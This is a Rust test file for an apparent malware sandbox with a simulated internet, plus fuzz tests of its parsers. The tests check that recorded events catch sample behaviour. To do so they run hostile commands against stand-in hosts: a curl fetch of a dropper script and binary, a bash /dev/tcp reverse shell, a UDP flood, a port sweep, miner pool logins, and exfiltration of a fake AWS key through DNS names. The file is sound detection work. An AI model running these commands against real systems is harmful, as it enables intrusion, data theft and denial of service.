//! The whole of it, with real clients.

#![expect(
    clippy::disallowed_methods,
    reason = "the sample's side: real clients in a namespace that leads nowhere else"
)]

use std::{
    net::{TcpStream, UdpSocket},
    sync::{Arc, Mutex},
    thread,
    time::{Duration, Instant},
};

use model::{Canary, What};

use super::testing::{NOW, ask, connect, python, run, run_with, shell};

#[test]
fn curl_fetches_a_script_and_a_program_and_takes_our_certificate() {
    let (events, counts) = run(|guest| {
        let ca = guest.authority.display();
        let script = shell(&format!("curl -sS --max-time 20 --cacert {ca} https://dropper.example/x/install.sh"));
        assert!(script.starts_with("#!/bin/sh"), "{script}");
        let size = shell(
            "curl -sS --max-time 20 -A '' -o /dev/null -w '%{size_download}' http://dropper.example:8080/bins/agent.x86",
        );
        assert_eq!(size, "162");
        let refused = shell("curl -sS --max-time 20 --cacert /dev/null https://dropper.example/ 2>/dev/null; echo $?");
        assert_ne!(refused, "0\n");
    });
    let urls: Vec<(&str, &str, bool)> = events
        .iter()
        .filter_map(|event| match event {
            What::Http { url, content, answer, .. } => Some((url.as_str(), content.as_str(), answer.is_some())),
            _ => None,
        })
        .collect();
    let expected = [
        ("https://dropper.example/x/install.sh", "script", true),
        ("http://dropper.example:8080/bins/agent.x86", "elf", true),
    ];
    assert_eq!(urls, expected, "{events:#?}");
    let handshakes: Vec<(&str, bool, usize)> = events
        .iter()
        .filter_map(|event| match event {
            What::Tls { server, ja3, accepted, .. } => Some((server.as_str(), *accepted, ja3.len())),
            _ => None,
        })
        .collect();
    assert_eq!(handshakes, [("dropper.example", true, 32), ("dropper.example", false, 32)]);
    assert!(events.iter().any(
        |event| matches!(event, What::Dns { name, answer, .. } if name == "dropper.example" && answer.len() == 1)
    ));
    let named = |event: &What| matches!(event, What::FlowStart { name: Some(name), accepted: true, .. } if name == "dropper.example");
    assert_eq!(events.iter().filter(|event| named(event)).count(), 3);
    assert!(counts.downloads.len() >= 2 && counts.packets_out > 20, "{counts:?}");
}

#[test]
fn a_connection_is_answered_within_milliseconds() {
    run(|_| {
        let mut taken: Vec<Duration> = (0..40)
            .map(|_| {
                let start = Instant::now();
                let mut stream = connect("203.0.113.9:80");
                ask(&mut stream, "GET / HTTP/1.1\r\nHost: x.example\r\n\r\n", "</html>");
                start.elapsed()
            })
            .collect();
        taken.sort();
        println!("connect and reply: median {:?}, worst {:?}", taken[20], taken[39]);
        assert!(taken[20] < Duration::from_millis(20), "{taken:?}");
    });
}

#[test]
fn a_flood_is_folded_into_one_event_and_memory_stays() {
    let (events, counts) = run(|_| {
        let socket = UdpSocket::bind("0.0.0.0:0").expect("binds");
        for _ in 0..200_000 {
            // A full queue may say so: the kernel counts it.
            let _sent = socket.send_to(&[0x41; 512], "198.51.100.77:27015");
        }
    });
    let floods: Vec<&What> = events.iter().filter(|event| matches!(event, What::Flood { .. })).collect();
    let [What::Flood { shape, target, packets, bytes, .. }] = floods[..] else { panic!("{floods:?}") };
    assert_eq!((shape.as_str(), target.as_str()), ("udp", "198.51.100.77:27015"));
    assert_eq!(*bytes, packets * 540);
    assert!(events.len() < 20, "{}", events.len());
    // A few that the kernel says by itself on a new device may be among the lost.
    let all = counts.packets_out + counts.packets_lost;
    assert!((200_000..=200_016).contains(&all), "{counts:?}");
    println!("200,000 sent: {} read, {} lost at the queue", counts.packets_out, counts.packets_lost);
}

#[test]
fn a_scan_is_one_sweep_and_finds_little() {
    let (events, _) = run(|_| {
        let threads: Vec<_> = (0..16_u8)
            .map(|part| {
                thread::spawn(move || {
                    (0..32_u8)
                        .filter(|host| {
                            let target = format!("10.9.{part}.{host}:23").parse().expect("an address");
                            TcpStream::connect_timeout(&target, Duration::from_millis(150)).is_ok()
                        })
                        .count()
                })
            })
            .collect();
        let open: usize = threads.into_iter().map(|thread| thread.join().expect("scans")).sum();
        assert!((8..100).contains(&open), "{open} of 512 open");
    });
    let sweeps: Vec<&What> = events.iter().filter(|event| matches!(event, What::Sweep { .. })).collect();
    let [What::Sweep { ports, targets, .. }] = sweeps[..] else { panic!("{sweeps:?}") };
    assert_eq!(ports[..], [23]);
    assert!(targets.abs_diff(512) < 20, "{targets}");
}

/// To a stranger's port, to one where web pages are, and to one whose server greets.
#[test]
fn a_reverse_shell_shows_itself_on_any_port() {
    let (events, _) = run(|_| {
        let shells: Vec<_> = [4443, 443, 22]
            .into_iter()
            .map(|port| {
                let script = format!("timeout 7 bash -c 'sh 0<>/dev/tcp/203.0.113.5/{port} >&0 2>&0'; true");
                std::process::Command::new("bash").args(["-c", &script]).spawn().expect("bash")
            })
            .collect();
        for mut shell in shells {
            shell.wait().expect("ends");
        }
    });
    let answers = |event: &What| matches!(event, What::Message { service, text, .. } if service == "shell" && text.contains("uid=0(root) gid=0"));
    assert_eq!(events.iter().filter(|event| answers(event)).count(), 3, "{events:#?}");
}

#[test]
fn a_miner_is_dealt_jobs_and_its_shares_are_taken() {
    let (events, _) = run(|_| {
        let mut pool = connect("203.0.113.8:20128");
        let login = r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4WALLET","pass":"rig7","agent":"XMRig/6.16.0","algo":["rx/0"]}}"#;
        let job = ask(&mut pool, &format!("{login}\n"), "\n");
        assert!(job.contains(r#""status":"OK""#) && job.contains(r#""target":"ffffff7f""#), "{job}");
        let reply = ask(
            &mut pool,
            "{\"id\":2,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"x\",\"job_id\":\"1\",\"nonce\":\"00000000\",\"result\":\"00\"}}\n",
            "\n",
        );
        assert!(reply.contains(r#""result":{"status":"OK"}"#), "{reply}");
        let mut pool = connect("203.0.113.8:443");
        ask(&mut pool, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5\"]}\n", "mining.notify");
        ask(
            &mut pool,
            "{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"1Wallet.rig\",\"x\"]}\n",
            "mining.set_difficulty",
        );
    });
    let shares = |dialect: &str| {
        events
            .iter()
            .filter(|event| matches!(event, What::Stratum { dialect: known, share: true, .. } if known == dialect))
            .count()
    };
    assert_eq!((shares("login"), shares("mining")), (1, 0));
    let subscribed = |event: &What| matches!(event, What::Stratum { method, login, worker, agent, .. } if method == "mining.authorize" && login == "1Wallet" && worker == "rig" && agent == "cpuminer/2.5");
    assert!(events.iter().any(subscribed), "{events:#?}");
}

#[test]
fn a_port_of_the_sample_is_called_on() {
    let (events, _) = run(|guest| {
        let listener = std::net::TcpListener::bind("0.0.0.0:8000").expect("binds");
        let datagrams = UdpSocket::bind("0.0.0.0:9000").expect("binds");
        let server = thread::spawn(move || {
            for stream in listener.incoming().take(2) {
                let mut stream = stream.expect("a caller");
                let from = stream.peer_addr().expect("an address").ip();
                assert!(from.to_string().starts_with("203.0.113."), "{from}");
                ask(&mut stream, "welcome\n", "");
                thread::sleep(Duration::from_millis(100));
            }
        });
        guest.internet.poke(8000, super::Protocol::Tcp);
        guest.internet.poke(9000, super::Protocol::Udp);
        server.join().expect("two callers");
        let (_, from) = datagrams.recv_from(&mut [0; 64]).expect("a datagram");
        datagrams.send_to(b"reply", from).expect("sends");
        thread::sleep(Duration::from_millis(200));
    });
    assert!(events.iter().filter(|event| matches!(event, What::Poke { .. })).count() >= 5, "{events:#?}");
    assert!(events.iter().any(|event| matches!(event, What::FlowStart { inbound: true, local_port: 8000, .. })));
    assert!(
        events.iter().any(
            |event| matches!(event, What::Message { service, text, .. } if service == "poke" && text == "welcome")
        )
    );
    let reply = |event: &What| matches!(event, What::FlowEnd { head, bytes_out: 5, .. } if head == "cmVwbHk=");
    assert!(events.iter().any(reply), "{events:#?}");
}

#[test]
fn names_exist_unless_they_are_drawn_by_chance() {
    let (events, _) = run(|_| {
        shell(
            "getent ahostsv4 pool.example >/dev/null; ! getent ahostsv4 xkqzjvwpltrb.com; ! getent hosts qwzxvbnmkjhg.net",
        );
        python(
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\ns.settimeout(5)\ns.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('pool.example', 0))\nassert s.recv(64)[20] == 0",
        );
        let date = python(
            "import socket, struct\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\ns.sendto(b'\\x1b' + 47 * b'\\0', ('pool.ntp.example', 123))\nprint(struct.unpack('!I', s.recv(48)[40:44])[0] - 2208988800)",
        );
        let date: u64 = date.trim().parse().expect("a date");
        assert!((NOW..NOW + 60).contains(&date), "{date}");
    });
    let exists = |name: &str| {
        events.iter().find_map(|event| match event {
            What::Dns { name: asked, record, answer, .. } if asked == name && record == "A" => Some(!answer.is_empty()),
            _ => None,
        })
    };
    assert_eq!((exists("pool.example"), exists("xkqzjvwpltrb.com")), (Some(true), Some(false)), "{events:#?}");
    let ping = |event: &What| matches!(event, What::FlowStart { protocol, accepted: true, .. } if protocol == "icmp");
    assert!(events.iter().any(ping));
}

/// Credentials in pieces, each a label of a name, with a counter before it.
#[test]
fn a_canary_is_seen_in_a_tunnel_of_names() {
    let canary = Canary { kind: "aws-key".into(), path: None, mark: "AKIAZ7INVENTEDMARK23".into() };
    let (events, _) = run_with(vec![canary], None, |_| {
        python(
            "import socket\nloot = b'[default]\\naws_access_key_id = AKIAZ7INVENTEDMARK23\\n'.hex()\n\
             for n in range(0, len(loot), 22):\n    socket.getaddrinfo('%d.%s.tunnel.example' % (n, loot[n:n + 22]), 80)",
        );
    });
    let seen = |event: &What| matches!(event, What::FlowEnd { service, canaries, .. } if service == "dns" && canaries == &["aws-key"]);
    assert!(events.iter().any(seen), "{events:#?}");
}

#[test]
fn a_flood_of_requests_is_told_and_what_it_costs_is_bounded() {
    let before = resident_kib();
    let (events, _) = run(|_| {
        for _ in 0..1_500 {
            let mut stream = connect("203.0.113.9:80");
            ask(&mut stream, "GET /?x=1 HTTP/1.1\r\nHost: victim.example\r\nConnection: close\r\n\r\n", "</html>");
        }
    });
    let floods: Vec<&What> = events.iter().filter(|event| matches!(event, What::Flood { .. })).collect();
    let [What::Flood { shape, target, packets, .. }] = floods[..] else { panic!("{floods:?}") };
    assert_eq!((shape.as_str(), target.as_str(), *packets), ("http", "203.0.113.9:80", 1_500));
    let grown = resident_kib().saturating_sub(before);
    println!("resident memory grew by {grown} KiB");
    assert!(grown < 300 << 10, "{grown} KiB");
}

fn resident_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("Linux");
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).expect("a line");
    line.trim().trim_end_matches(" kB").parse().expect("a number")
}

/// The kernel's own packets apart, what is written to the capture is all there was.
#[test]
fn the_capture_holds_the_packets_of_both_ways() {
    #[derive(Clone, Default)]
    struct Shared(Arc<Mutex<Vec<u8>>>);
    impl std::io::Write for Shared {
        fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
            self.0.lock().expect("no panic").extend_from_slice(bytes);
            Ok(bytes.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let shared = Shared::default();
    let (_, counts) = run_with(Vec::new(), Some(Box::new(shared.clone())), |_| {
        ask(&mut connect("203.0.113.9:80"), "GET / HTTP/1.1\r\nHost: x.example\r\n\r\n", "</html>");
    });
    let file = shared.0.lock().expect("no panic");
    let mut rest = &file[..];
    let mut packets = 0;
    while !rest.is_empty() {
        packets += u64::from(rest[0] == 6);
        rest = &rest[u32::from_le_bytes(rest[4..8].try_into().expect("four")) as usize..];
    }
    assert_eq!(packets, counts.packets_in + counts.packets_out, "{counts:?}");
}

mod hostile {
    use std::{net::SocketAddr, sync::Arc};

    use proptest::prelude::*;

    use crate::{
        Recorder,
        internet::{
            Authority,
            conversation::{Around, Conversation},
            flows::Flow,
            service::ALL,
            swallow,
            world::World,
        },
    };

    /// What some service takes for the beginning of its protocol.
    const BEGINNINGS: [&str; 14] = [
        "",
        "GET / HTTP/1.1\r\nContent-Length: ",
        "POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n",
        "*3\r\n$3\r\n",
        "SSH-2.0-x\r\n\0\0\0",
        "{\"method\":\"login\",\"params\":",
        "{\"method\":\"mining.submit\"}\n",
        "\u{16}\u{3}\u{1}\0",
        "NICK a\r\nUSER b\r\n",
        "EHLO x\r\nAUTH PLAIN ",
        "\0\0\0\u{10}\0\u{3}\0\0",
        "PASV\r\nRETR ",
        "root\r\nroot\r\n",
        "\0\u{1e}",
    ];

    fn piece() -> impl Strategy<Value = Vec<u8>> {
        let rest = prop::collection::vec(any::<u8>(), 0..120);
        (prop::sample::select(BEGINNINGS.to_vec()), rest).prop_map(|(start, rest)| [start.as_bytes(), &rest].concat())
    }

    /// A packet that gets past the first look: version, lengths and protocol are right, the rest is anything.
    fn plausible() -> impl Strategy<Value = Vec<u8>> {
        let body = prop::collection::vec(any::<u8>(), 0..200);
        (any::<bool>(), prop::sample::select(vec![1_u8, 6, 17, 58, 47, 0]), any::<u16>(), body).prop_map(
            |(v6, protocol, port, body)| {
                let length = body.len() as u16;
                let mut packet = if v6 {
                    let mut head = vec![0x60, 0, 0, 0];
                    head.extend_from_slice(&length.to_be_bytes());
                    head.extend_from_slice(&[protocol, 64]);
                    head.extend_from_slice(&[0xfd, 0, 0, 0x17, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2]);
                    head.extend_from_slice(&[0x20, 1, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9]);
                    head
                } else {
                    let mut head = vec![0x45, 0];
                    head.extend_from_slice(&(length + 20).to_be_bytes());
                    head.extend_from_slice(&[0, 0, 0, 0, 64, protocol, 0, 0, 172, 17, 0, 2, 203, 0, 113, 9]);
                    head
                };
                packet.extend_from_slice(&body);
                let at = packet.len() - body.len() + 2;
                if protocol == 6 && body.len() >= 20 {
                    // Packets of one list meet in one connection, and half of them dial.
                    packet[at - 2..at].copy_from_slice(&40_000_u16.to_be_bytes());
                    packet[at + 10] = if body[0] % 2 == 0 { 0x50 } else { body[12] };
                    packet[at + 11] = if body[1] % 2 == 0 { 2 } else { body[13] };
                }
                if let Some(place) = packet.get_mut(at..at + 2) {
                    place.copy_from_slice(&[53, 80, 123, port][usize::from(port % 4)].to_be_bytes());
                }
                packet
            },
        )
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]
        #[test]
        fn no_packet_panics(packets in prop::collection::vec(prop_oneof![plausible(), prop::collection::vec(any::<u8>(), 0..100)], 1..40)) {
            let authority = Authority::new(1_700_000_000).expect("an authority");
            let framed: Vec<u8> = packets
                .iter()
                .flat_map(|packet| [&(packet.len() as u16).to_be_bytes()[..], packet].concat())
                .collect();
            swallow(&framed, &authority).expect("a stack");
        }

        #[test]
        fn no_service_panics(
            port in prop::sample::select(ALL.iter().flat_map(|kind| kind.ports).copied().chain([9_999]).collect::<Vec<u16>>()),
            secure in any::<bool>(),
            pieces in prop::collection::vec(piece(), 1..12),
        ) {
            let authority = Authority::new(1_700_000_000).expect("an authority");
            let recorder = Arc::new(Recorder::new(None));
            let mut world = World::new(1, 1_700_000_000, Vec::new(), authority, recorder);
            let remote = SocketAddr::from(([203, 0, 113, 9], port));
            let mut flow = Flow::start(&mut world, "tcp", 40_000, remote, true);
            let mut conversation = Conversation::new(0);
            let (mut out, mut close) = (Vec::new(), false);
            for piece in pieces {
                let mut around = Around { world: &mut world, flow: &mut flow, secure, out: &mut out, close: &mut close };
                conversation.receive(&piece, &mut around);
                conversation.tick(&mut around);
            }
            prop_assert!(out.len() < 1 << 20, "{} bytes said", out.len());
            flow.end(&mut world);
        }
    }
}
